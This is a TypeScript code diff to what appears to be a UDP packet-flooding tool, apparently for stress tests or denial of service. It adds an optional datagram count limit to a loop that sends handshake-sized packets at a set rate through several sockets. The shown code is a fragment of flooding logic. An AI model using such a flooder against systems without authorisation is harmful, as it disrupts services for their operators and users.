@@ -22,6 +22,8 @@ export interface FloodSpec {
   rate: number;
   /** Hard time limit. */
   seconds: number;
+  /** Stop after this many datagrams (0: no limit). */
+  count?: number;
 }
 
 export interface AttackStats {
@@ -72,18 +74,20 @@ async function flood(spec: FloodSpec): Promise<AttackStats> {
   let sent = 0;
   let next = 0;
   let turn = 0;
-  while (!stop) {
+  const limit = spec.count !== undefined && spec.count > 0 ? spec.count : Infinity;
+  while (!stop && sent < limit) {
     const now = performance.now();
     if (now > deadline) break;
     if (spec.rate > 0 && sent > ((now - started) / 1000) * spec.rate) { await sleep(1); continue; }
     const s = socks[turn++ % socks.length]!;
-    for (let i = 0; i < BATCH; i++) {
+    const n = Math.min(BATCH, limit - sent);
+    for (let i = 0; i < n; i++) {
       s.queue(pool, next * INITIATION_SIZE, INITIATION_SIZE, ep);
       next = (next + 1) % POOL;
     }
     const ok = s.flush();
     sent += ok;
-    if (ok < BATCH || (turn & 63) === 0) await yieldToLoop(); // send buffer full, or now and then for the timers and replies
+    if (ok < n || (turn & 63) === 0) await yieldToLoop(); // send buffer full, or now and then for the timers and replies
   }
   const elapsedMs = Math.round(performance.now() - started);
   for (const s of socks) s.close();
